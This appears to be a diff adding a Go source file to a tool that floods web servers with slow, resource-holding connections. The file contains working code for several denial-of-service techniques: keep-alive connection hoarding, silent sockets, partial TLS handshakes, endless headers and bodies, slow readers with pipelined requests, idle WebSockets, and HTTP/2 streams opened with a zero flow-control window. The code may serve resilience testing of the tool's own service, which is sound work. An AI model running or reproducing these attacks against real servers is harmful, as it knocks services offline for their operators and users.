@@ -1,0 +1,188 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"net"
+	"net/netip"
+	"strings"
+	"time"
+)
+
+const (
+	renewal  = 5 * time.Second // of what the server would else time out
+	trickle  = time.Second     // between bytes of what has no end
+	pipeline = 25              // requests of a slow reader
+)
+
+// keepAlive holds connections to HTTP and HTTPS by one request now and then.
+func keepAlive(ctx context.Context, a *attacker) {
+	a.crowd(ctx, a.each, func(ctx context.Context, source netip.Addr, i int) {
+		c, err := a.web(ctx, source, i%2 == 1)
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		for {
+			_, err := io.WriteString(c, "GET /x HTTP/1.1\r\nHost: "+c.RemoteAddr().String()+"\r\n\r\n")
+			if err != nil || !answered(c) {
+				return
+			}
+			a.opened.Add(1)
+			if !pause(ctx, renewal) {
+				return
+			}
+		}
+	})
+}
+
+// answered reads until nothing more comes for a moment.
+func answered(c net.Conn) bool {
+	buffer := make([]byte, 4096)
+	_ = c.SetReadDeadline(time.Now().Add(dialWait))
+	n, _ := c.Read(buffer)
+	return n > 0
+}
+
+func (a *attacker) web(ctx context.Context, source netip.Addr, secure bool) (*conn, error) {
+	if secure {
+		return a.dialTLS(ctx, source, a.ports.https, "http/1.1")
+	}
+	return a.dial(ctx, source, a.ports.http)
+}
+
+// unfinished begins what it does not end, in a different way on each connection.
+func unfinished(ctx context.Context, a *attacker) {
+	ways := []func(context.Context, *attacker, netip.Addr){silence, hello, headers, bodies, readers, upgrades}
+	a.crowd(ctx, a.each, func(ctx context.Context, source netip.Addr, i int) { ways[i%len(ways)](ctx, a, source) })
+}
+
+// silence connects and says nothing.
+func silence(ctx context.Context, a *attacker, source netip.Addr) {
+	for _, port := range []int{a.ports.http, a.ports.https} {
+		c, err := a.dial(ctx, source, port)
+		if err != nil {
+			continue
+		}
+		a.opened.Add(1)
+		defer c.Close()
+		defer untilClosed(c)
+	}
+}
+
+// untilClosed waits for the server to close.
+func untilClosed(c net.Conn) { _, _ = io.Copy(io.Discard, c) }
+
+// hello sends the beginning of a TLS handshake.
+func hello(ctx context.Context, a *attacker, source netip.Addr) {
+	c, err := a.dial(ctx, source, a.ports.https)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	a.opened.Add(1)
+	_, _ = c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3})
+	untilClosed(c)
+}
+
+// headers sends a request whose headers have no end.
+func headers(ctx context.Context, a *attacker, source netip.Addr) {
+	slowly(ctx, a, source, "GET / HTTP/1.1\r\nHost: x\r\nX: ")
+}
+
+// bodies sends a request whose body has no end.
+func bodies(ctx context.Context, a *attacker, source netip.Addr) {
+	slowly(ctx, a, source, "POST /api/v1/frames HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer x\r\nContent-Length: 65536\r\n\r\n")
+}
+
+func slowly(ctx context.Context, a *attacker, source netip.Addr, begin string) {
+	c, err := a.web(ctx, source, true)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	a.opened.Add(1)
+	for text := begin; ; text = "y" {
+		if _, err := io.WriteString(c, text); err != nil || !pause(ctx, trickle) {
+			return
+		}
+	}
+}
+
+// readers asks for much and reads none of it.
+func readers(ctx context.Context, a *attacker, source netip.Addr) {
+	c, err := a.web(ctx, source, false)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	if raw, ok := c.Conn.(*net.TCPConn); ok {
+		_ = raw.SetReadBuffer(4 << 10)
+	}
+	a.opened.Add(1)
+	for {
+		_, err := io.WriteString(c, strings.Repeat("GET / HTTP/1.1\r\nHost: "+c.RemoteAddr().String()+"\r\n\r\n", pipeline))
+		if err != nil || !pause(ctx, renewal) {
+			return
+		}
+	}
+}
+
+// upgrades opens WebSockets that join no room.
+func upgrades(ctx context.Context, a *attacker, source netip.Addr) {
+	s, err := a.webSocket(ctx, source, false)
+	if err != nil {
+		return
+	}
+	defer s.Close()
+	a.opened.Add(1)
+	untilClosed(s)
+}
+
+const (
+	h2Streams = 250
+	h2Header  = 2000 // bytes in each stream's headers
+)
+
+// streams opens HTTP/2 connections whose streams have no window for their answers.
+func streams(ctx context.Context, a *attacker) {
+	a.crowd(ctx, max(1, a.each/4), func(ctx context.Context, source netip.Addr, i int) {
+		c, err := a.dialTLS(ctx, source, a.ports.https, "h2")
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		a.opened.Add(1)
+		if _, err := c.Write(h2Requests(i%2 == 1)); err == nil {
+			untilClosed(c)
+		}
+	})
+}
+
+// h2Requests returns the preface, settings with a window of 0, and requests:
+// GET, or POST with a body to come (RFC 9113, RFC 7541).
+func h2Requests(post bool) []byte {
+	b := bytes.NewBufferString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+	h2Frame(b, 4, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE
+	block := []byte{0x87, 0x84, 0x01, 1, 'x'}     // https, /, :authority x
+	block = append(block, 0x00, 5)
+	block = append(block, "x-pad"...)
+	block = append(block, 0x7f, (h2Header-127)&0x7f|0x80, (h2Header-127)>>7)
+	block = append(block, strings.Repeat("y", h2Header)...)
+	method, flags := byte(0x82), byte(5) // GET, END_HEADERS and END_STREAM
+	if post {
+		method, flags = 0x83, 4
+	}
+	block = append([]byte{method}, block...)
+	for i := range h2Streams {
+		h2Frame(b, 1, flags, 2*i+1, block)
+	}
+	return b.Bytes()
+}
+
+func h2Frame(b *bytes.Buffer, kind, flags byte, stream int, payload []byte) {
+	n := len(payload)
+	b.Write([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)})
+	b.Write(payload)
+}
